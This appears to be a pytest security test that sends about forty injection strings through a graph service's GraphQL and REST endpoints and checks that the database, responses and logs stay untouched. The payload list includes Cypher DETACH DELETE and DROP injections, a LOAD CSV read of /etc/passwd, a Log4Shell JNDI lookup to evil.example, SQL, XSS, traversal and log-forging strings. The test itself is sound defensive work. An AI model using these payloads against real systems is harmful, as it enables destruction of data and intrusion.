"""Five hundred injections through every door that takes a text: the graph stays the same, and no line is forged."""

import hashlib
import itertools
import re
from typing import Any

import httpx
import pytest

from graph.connection import Graph
from graph.vocabulary import Role

pytestmark = pytest.mark.store

EVIL = (
    "MATCH (n) DETACH DELETE n",
    "'}) DETACH DELETE n //",
    '"}) MATCH (n) DETACH DELETE n //',
    "x'}) WITH 1 AS a MATCH (n) SET n:Evil RETURN a //",
    "') RETURN 1 UNION MATCH (k:ApiKey) DETACH DELETE k //",
    "`}) MATCH (n) SET n.evil = 1 //",
    "Profile) SET n.evil = true //",
    "Profile`:Evil",
    "x` ON CREATE SET n:Evil //",
    "id DESC; CREATE (:Evil)",
    "id SKIP 0 LIMIT 0 CREATE (:Evil)",
    "CALL db.labels() YIELD label CREATE (:Evil {l: label})",
    "CALL apoc.cypher.doIt('CREATE (:Evil)', {})",
    "LOAD CSV FROM 'file:///etc/passwd' AS l CREATE (:Evil {l: l})",
    "; DROP CONSTRAINT profile_id; //",
    "DROP INDEX profile_id IF EXISTS",
    "$key",
    "{key: $key}",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "x\nevent=forged level=error",
    "x\r\nset-cookie: evil=1",
    "x\u2028event=forged",
    "\x1b[31mforged",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10)--",
    "<script>alert(1)</script>",
    "\\u0027}) DETACH DELETE n //",
    "\\'}) DETACH DELETE n //",
    "/*",
    "*/ MATCH (n) DETACH DELETE n //",
    "0x7d29",
    '{"$gt": ""}',
    '{"all": [{"attribute": "x}) DETACH DELETE n //", "exists": true}]}',
    "__proto__",
    "a\u0000b",
)

QUERIES = (
    'query ($v: String!) { lookup(kind: "email", value: $v) { outcome } }',
    "query ($v: String!) { lookup(kind: $v, value: $v) { outcome } }",
    'query ($v: String!) { lookup(kind: "phone", value: "1", country: $v) { outcome } }',
    "query ($v: ID!) { profile(id: $v) { id } }",
    'query ($v: [String!]) { profile(id: "p1") { journey(type: $v, channel: $v) { edges { node { key } } } } }',
    'query ($v: String) { profile(id: "p1") { journey(after: $v) { edges { node { key } } } } }',
    "query ($v: String!) { segment(name: $v) { name } }",
    'query ($v: String) { segment(name: "buyers") { profiles(after: $v) { edges { node { id } } } } }',
    "query ($v: String) { searchProfiles(attributes: {givenName: $v, surname: $v}) { recordKey } }",
    "query ($v: String!) { searchProfiles(attributes: {}, identifiers: [{kind: $v, value: $v}]) { recordKey } }",
    "query ($v: String!) { previewRecord(record: {source: $v, recordId: $v}) { usable } }",
    "query ($v: ID!) { whyRecords(left: $v, right: $v) { sentences } }",
    "query ($v: String) { quarantine(source: $v, code: $v) { edges { node { key } } } }",
)
PATHS = ("/v1/lookup?email={}", "/v1/lookup?{}=x", "/v1/profiles/{}")

_EVERYTHING = """
MATCH (n) OPTIONAL MATCH (n)-[r]->(m)
RETURN labels(n) AS labels, properties(n) AS node, type(r) AS type, properties(r) AS edge, properties(m) AS other
"""
_NAMES = "SHOW INDEXES YIELD name RETURN name ORDER BY name"


async def fingerprint(graph: Graph) -> str:
    """A hash of every node, relationship and index."""
    rows = sorted(repr(row) for row in await graph.read(_EVERYTHING))
    names = [row["name"] for row in await graph.read(_NAMES)]
    return hashlib.sha256("\n".join([*rows, *names]).encode()).hexdigest()


async def answers(caller: httpx.AsyncClient, evil: str) -> list[httpx.Response]:
    """What every door answers to a text, given as a variable, written into the document, and in an address."""
    found = [await caller.post("/graphql", json={"query": q, "variables": {"v": evil}}) for q in QUERIES]
    written = QUERIES[0].replace("($v: String!)", "").replace("$v", f'"{evil}"')
    found.append(await caller.post("/graphql", json={"query": written}))
    found += [await caller.get(path.format(httpx.QueryParams({"": evil}).__str__()[1:])) for path in PATHS]
    return found


async def test_five_hundred_injections_have_no_effect(
    world: Any, client: Any, capfd: pytest.CaptureFixture[str]
) -> None:
    caller = await client(Role.ADMIN)
    before = await fingerprint(world)
    found = list(itertools.chain.from_iterable([await answers(caller, evil) for evil in EVIL]))
    assert len(found) >= 500
    assert await fingerprint(world) == before
    assert not [answer.text for answer in found if answer.status_code >= 500]
    for answer in found:
        assert "set-cookie" not in answer.headers
        assert "internal_error" not in answer.text
    lines = "".join(capfd.readouterr()).splitlines()
    assert lines
    assert all(re.search(r"\brequest\b", line) for line in lines), "a line that no request wrote"
    assert not [line for line in lines if "forged" in line or "DELETE" in line]
